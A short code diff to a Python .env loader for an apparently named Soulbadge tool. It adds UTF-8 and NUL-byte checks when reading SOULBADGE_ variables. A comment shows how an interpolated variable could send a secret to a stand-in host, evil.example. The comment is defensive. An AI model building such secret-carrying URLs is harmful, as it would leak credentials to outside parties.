@@ -110,6 +110,13 @@ def _load_dotenv() -> None:
     from dotenv import dotenv_values
 
     # Not interpolated: SOULBADGE_RPC_URL=https://evil.example/${SECRET} would carry the secret away.
-    for name, value in dotenv_values(file, interpolate=False).items():
-        if name.startswith("SOULBADGE_") and value is not None:
-            os.environ.setdefault(name, value)
+    try:
+        found = dotenv_values(file, interpolate=False)
+    except UnicodeDecodeError as error:
+        raise click.ClickException(f"{file}: is no text in UTF-8; save it as UTF-8, or move it away") from error
+    for name, value in found.items():
+        if not name.startswith("SOULBADGE_") or value is None:
+            continue
+        if "\0" in name + value:
+            raise click.ClickException(f"{file}: a byte 0 stands in {name!r}; write the line again")
+        os.environ.setdefault(name, value)
